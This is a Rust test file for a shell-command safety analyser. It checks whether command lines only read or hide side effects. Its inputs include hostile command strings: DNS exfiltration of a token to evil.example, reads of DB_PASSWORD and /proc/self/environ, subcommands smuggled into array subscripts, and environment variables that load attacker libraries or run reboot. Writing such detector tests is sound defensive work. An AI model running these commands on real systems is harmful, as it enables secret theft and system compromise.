//! Command lines of a fourth review. Each stays here.

use crate::{Limits, Reading, read};

fn plain(text: &str) -> Reading {
    read(text.as_bytes(), &Limits::default())
}

/// None of these has certainly set the variable, and what the client sent for it may have a subscript that is run.
const NOT_SET: &[&str] = &[
    "{ X=1; } </none; ",
    "export X=1 </none; ",
    "X=1 </none; ",
    "X= >/srv/none; ",
    "while true; do { X=1; } <none; ",
    "trap 'X=1' EXIT; ",
    "trap 'X=1' USR1; ",
    "local X=1; ",
    "sh -c 'local X=1'; ",
    "f() { trap 'local X=1' EXIT; }; ",
    "declare -p X=1; ",
    "declare -pr X=1; ",
    "declare -g X=1; ",
    "export -p X=1; ",
    "typeset -x X=1; ",
    "readonly X; export X=1; ",
    "readonly X; X=1; ",
    "readonly X; eval 'X=1'; ",
    "readonly X=1; ",
    "declare -r X; X=1; ",
    "unset X; X=1; ",
    "trap 'unset X' DEBUG; X=1; ",
    "eval 'return; X=1'; ",
    "f() { g() { unset X; }; }; X=1; f; g; ",
    "sudo -s export X=1; ",
    // Where these fail, the rest of the line is skipped, and the next line is not.
    "X=$((1/0))\n",
    "X=$((7 % 0))\n",
    "X=$((2 ** -1))\n",
    "X=$((08))\n",
    "y=08; X=$((y))\n",
    "X=${!y-}\n",
    "X=${y:0:-9}\n",
    ": $((1/0)); X=1\n",
    "{ echo ${!y}; X=1; }\n",
    "UID=1; X=1\n",
    "BASH_VERSINFO=1; X=1\n",
    "readonly y; y=1; X=1\n",
    "shopt -s failglob; ls *.none; X=1\n",
];

fn tells(text: &str) -> bool {
    let reading = plain(text);
    reading.reads.paths.contains("/proc/self/environ") || reading.is_opaque()
}

#[test]
fn what_is_not_certainly_set() {
    for begin in NOT_SET {
        let end = if begin.starts_with("while") {
            "; done"
        } else {
            ""
        };
        for set in ["TERM", "DB_PASSWORD"] {
            let begin = begin.replace('X', set);
            let text = format!("{begin}y=$(({set})); ls{end}");
            assert!(plain(&text).is_opaque(), "{text}");
            let text = format!("{begin}echo \"${set}\"{end}");
            assert!(set == "TERM" || tells(&text), "{text}");
        }
    }
    for text in [
        "f() { local TERM=1; g; y=$((TERM)); }; g() { unset TERM; }; f",
        "f() { y=$((TERM)); }; g() { local TERM=1; f; }; g; f",
        "(TERM=1; f() { y=$((TERM)); }; f); f",
        "TERM=1 eval 'f() { y=$((TERM)); }'; f",
        "f() { local TERM=1; trap 'y=$((TERM))' EXIT; }; f",
        "TERM=1; for i in 1 2; do y=$((TERM)); unset TERM; done",
    ] {
        assert!(plain(text).is_opaque(), "{text}");
    }
    for text in [
        "read -t 0 DB_PASSWORD </dev/null; echo \"$DB_PASSWORD\"",
        "read -p DB_PASSWORD x </dev/null; echo \"$DB_PASSWORD\"",
        "read -p DB_PASSWORD x; echo \"$DB_PASSWORD\"",
        "read -t 0 DB_PASSWORD; echo \"$DB_PASSWORD\"",
        "read -u 9 DB_PASSWORD; echo \"$DB_PASSWORD\"",
        "read -n DB_PASSWORD x; echo \"$DB_PASSWORD\"",
        "readonly DB_PASSWORD; read DB_PASSWORD; echo \"$DB_PASSWORD\"",
        "{ read DB_PASSWORD; echo \"$DB_PASSWORD\"; } </srv",
        "until read -r DB_PASSWORD; do echo \"$DB_PASSWORD\"; done </srv",
        "while ! read -r DB_PASSWORD; do echo \"$DB_PASSWORD\"; done </srv",
        "while read -r DB_PASSWORD || true; do echo \"$DB_PASSWORD\"; done </srv",
        "while read -r DB_PASSWORD; true; do echo \"$DB_PASSWORD\"; done </srv",
        "DB_PASSWORD=1 sudo sh -c 'echo \"$DB_PASSWORD\"'",
        "DB_PASSWORD=1; sudo sh -c 'echo \"$DB_PASSWORD\"'",
        "DB_PASSWORD=1; su -c 'echo \"$DB_PASSWORD\"'",
    ] {
        assert!(tells(text), "{text}");
    }
}

#[test]
fn what_is_certainly_set_stays_so() {
    for text in [
        "x=1; ls >/dev/null; echo $x $((x + 1))",
        "while read -r f; do echo \"$f\"; done </srv/list",
        "while IFS= read -r f; do echo \"$f\"; done",
        "read -r a b; echo \"$b\"",
        "f() { local x=1; echo $x; }; f",
        "export x=1; echo $x",
        "x=1; { x=2; } >/dev/null; echo $((x))",
        "n=0; n=$((n + 10 * 2)); echo $n ${#n} ${n:-1} $? $# $!",
        "x=${1:-y}; x=${x%.*}; echo \"$x\"",
    ] {
        let opaque = plain(text).opaque;
        let only_ifs = opaque.iter().all(|o| o.code() == "environment") && text.contains("IFS");
        assert!(opaque.is_empty() || only_ifs, "{text}: {opaque:?}");
        assert!(
            !plain(text).reads.paths.contains("/proc/self/environ"),
            "{text}"
        );
    }
}

/// Each name is put in and taken out as often as the text sets it, however often the text goes back.
#[test]
fn to_go_back_costs_no_more_than_to_have_come() {
    let limits = Limits::default();
    let mut text: Vec<String> = (0..8_000).map(|i| format!("v{i}=1")).collect();
    text.push(vec!["a=1"; 2_000].join("||"));
    let text = text.join("\n");
    let mut walk = crate::walk::Walk::new(&limits, false);
    let ctx = walk.ctx();
    assert!(walk.text(&text, &ctx).is_some());
    assert!(walk.variables.moves >= 8_000);
    assert!(
        walk.variables.moves <= 2 * limits.words,
        "{}",
        walk.variables.moves
    );
}

#[test]
fn builtins_that_something_else_reaches() {
    for text in [
        "sudo -s trap reboot EXIT",
        "sudo -s jobs -x reboot",
        "sudo -i jobs -x reboot",
        "sudo -s printf %n PATH",
        "parallel jobs -x reboot {} ::: 1",
        "parallel eval reboot ::: 1",
        "parallel alias ls=reboot ::: 1",
        "/usr/bin/jobs -x reboot",
        "/usr/bin/read 'a[$(reboot)]' </dev/null",
        "/usr/bin/wait -p 'a[$(reboot)]' -n",
        "/usr/bin/getopts a 'a[$(reboot)]'",
        "/usr/bin/hash -p /srv/x ls",
        "/usr/bin/fc -s x=y",
        "/usr/bin/umask 0",
        "/usr/bin/alias ls=x",
        "sudo jobs -x reboot",
        "env jobs -x reboot",
        "xargs jobs -x reboot",
        "timeout 5 read 'a[$(reboot)]'",
        "find /srv -exec jobs -x {} +",
        "[[ x ]]; printf abc%n PATH; ls",
        "printf %hhn PATH",
        "printf '%d%%%-5ln' 1 PATH",
        "printf -- %n PATH",
        "printf -v x %n PATH",
        "printf -v x -- %n PATH",
        "printf \"$x\" PATH",
        "printf '\\045n' PATH",
        "printf '\\x25n' PATH",
    ] {
        assert!(
            !plain(text).only_reads && (plain(text).is_opaque() || text.contains("trap")),
            "{text}"
        );
    }
    assert_eq!(
        plain("sudo -s trap reboot EXIT").commands[0].argv[0].text,
        "reboot"
    );
    assert_eq!(plain("parallel trap reboot {} ::: EXIT").commands.len(), 1);
    assert!(!plain("parallel trap reboot {} ::: EXIT").only_reads);
    assert!(plain("parallel x=y reboot ::: 1").is_opaque());
    for text in [
        "printf '%s\\n' a",
        "printf '100%%n\\n'",
        "printf '\\033[1mnow\\033[0m'",
        "printf '%5.2f %-3s %b\\n' 1 b c",
        "umask 022; hash -r; read -r x; wait",
        "sudo -s ls /srv",
        "parallel ls {} ::: /srv /tmp",
    ] {
        assert!(!plain(text).is_opaque(), "{text}: {:?}", plain(text).opaque);
    }
}

/// What these do is more than to tell something.
#[test]
fn programs_that_only_seem_to_read() {
    for text in [
        "read -e x",
        "read -rei y x",
        "getent -s x/evil passwd root",
        "getent passwd -s x/evil root",
        "getent --service=x/evil passwd root",
        "getent hosts evil.example",
        "getent hosts \"$(cut -c1-40 /srv/app/tok).x.evil.example\"",
        "getent ahostsv4 evil.example",
        "getent networks evil.example",
        "getent \"$x\" y",
        "lsof -i @tok.evil.example",
        "lsof -iTCP@tok.evil.example:80",
        "lsof \"$x\"",
        "ss dst tok.evil.example",
        "ss 'dst tok.evil.example'",
        "ss state established 'dst = tok.evil.example:22'",
        "ss dst dead.beef",
        "ss -F /srv/filter",
        "ss -N x",
        "gawk 1 /inet/tcp/0/10.0.0.5/6379",
        "awk '{print $1}' /inet4/udp/0/10.0.0.5/53",
        "unshare -rR /tmp/r ls",
        "chroot /tmp/r ls",
        "nsenter -r/tmp/r ls",
        "nsenter -t 1 -m ls",
        "sudo -R /tmp/r ls",
        "sudo unshare --uts=/etc/passwd true",
        "unshare --mount=/etc/passwd true",
        "unshare -u/etc/passwd true",
        "toybox pgrep -L 9 sshd",
        "pgrep -L 9 sshd",
        "busybox less /srv/x",
        "busybox date -s 10:00",
        "busybox tar tf x",
        "nohup echo x",
        "watch ls",
        "watch -s /srv ls",
        "journalctl --image=/srv/x --no-pager",
    ] {
        assert!(!plain(text).only_reads, "{text}");
    }
    for text in [
        "unshare -n/etc/passwd true",
        "unshare --net=/etc/passwd true",
        "unshare --mount-proc=/srv true",
        "watch -s /srv ls",
    ] {
        assert!(plain(text).is_opaque(), "{text}");
    }
    for text in [
        "getent hosts evil.example",
        "lsof -i @evil.example",
        "ss dst evil.example",
        "gawk 1 /inet/tcp/0/10.0.0.5/6379",
    ] {
        let hazards = plain(text).hazards;
        assert!(hazards.iter().any(|h| h.code == "network"), "{text}");
    }
    for text in [
        "read -r x",
        "getent passwd root",
        "getent group",
        "lsof -i -n -P",
        "lsof -i :22",
        "ss -tlnp",
        "ss -tn state established '( dport = :ssh or sport = :22 )'",
        "ss -tn dst 10.0.0.0/8",
        "ss -tn dst '[fe80::1]:22'",
        "pgrep -fa sshd",
        "busybox ls /srv",
        "toybox cat /srv/x",
        "awk '{print $1}' /srv/x",
    ] {
        assert!(plain(text).only_reads, "{text}: {:?}", plain(text).opaque);
    }
    // A person's editor is a key away.
    assert!(plain("read -e x").pages().is_some());
    assert!(plain("x=1; read -ri y x").pages().is_some());
    assert!(plain("read -r x").pages().is_none());
}

/// Options, libraries, or files to write, from the environment.
#[test]
fn variables_that_programs_take_options_from() {
    for text in [
        "BZIP2=/srv/b.bz2 tar tjf x.tbz",
        "BZIP=-d tar tjf x.tbz",
        "XZ_OPT=--files=/tmp/l tar tJf x.txz",
        "XZ_DEFAULTS=--files=/tmp/l tar tJf x.txz",
        "GAWK_PERSIST_FILE=f gawk 'BEGIN{x=1}'",
        "GAWK_READ_TIMEOUT=1 gawk 1 x",
        "LANGUAGE=../../../tmp/x ls --bogus",
        "LANGUAGE=/tmp/x ls --bogus",
        "LANGUAGE=\"$x\" ls",
        "IP_LIB_DIR=/srv/x ip link show",
        "TC_LIB_DIR=/srv/x tc qdisc show",
        "PS_FORMAT=pid,environ ps",
        "PS_PERSONALITY=bsd ps -e",
        "CMD_ENV=bsd ps -e",
        "KRB5_TRACE=/srv/x klist",
        "LESSKEY=/srv/x ls",
        "LOCALDOMAIN=evil.example id",
        "DPKG_ROOT=/srv/x dpkg -l",
        "APT_CONFIG=/srv/x apt-cache policy",
        "SSH_SK_PROVIDER=/srv/x.so ssh-add",
        "RUBYGEMS_GEMDEPS=- ruby x",
        "_JAVA_OPTIONS=-javaagent:/srv/x java -version",
        "OPENSSL_ENGINES=/srv openssl version",
        "MAKEFILES=/srv/x make",
        "GNUMAKEFLAGS=--eval=x make",
        "BAT_OPTS=--pager=reboot bat x",
        "TEXTDOMAINDIR=/srv/x ls",
        "READNULLCMD=reboot zsh -c '<x'",
        "PSQL_EDITOR=reboot psql </dev/null",
        "LIBMYSQL_PLUGINS=x mysql </dev/null",
        "XTABLES_LIBDIR=/srv iptables -L",
        "env PHPRC=/srv/x php -v",
    ] {
        assert!(plain(text).is_opaque(), "{text}");
    }
    for text in [
        "LANGUAGE=en_US:en ls",
        "LANGUAGE= ls",
        "TZ=UTC date",
        "NODE_ENV=production ls",
        "DEBIAN_FRONTEND=noninteractive ls",
        "PGHOST=db PGUSER=x ls",
        "EDITOR=true PSQL_PAGER=cat ls",
        "RUST_LOG=debug ls",
    ] {
        assert!(!plain(text).is_opaque(), "{text}: {:?}", plain(text).opaque);
    }
}
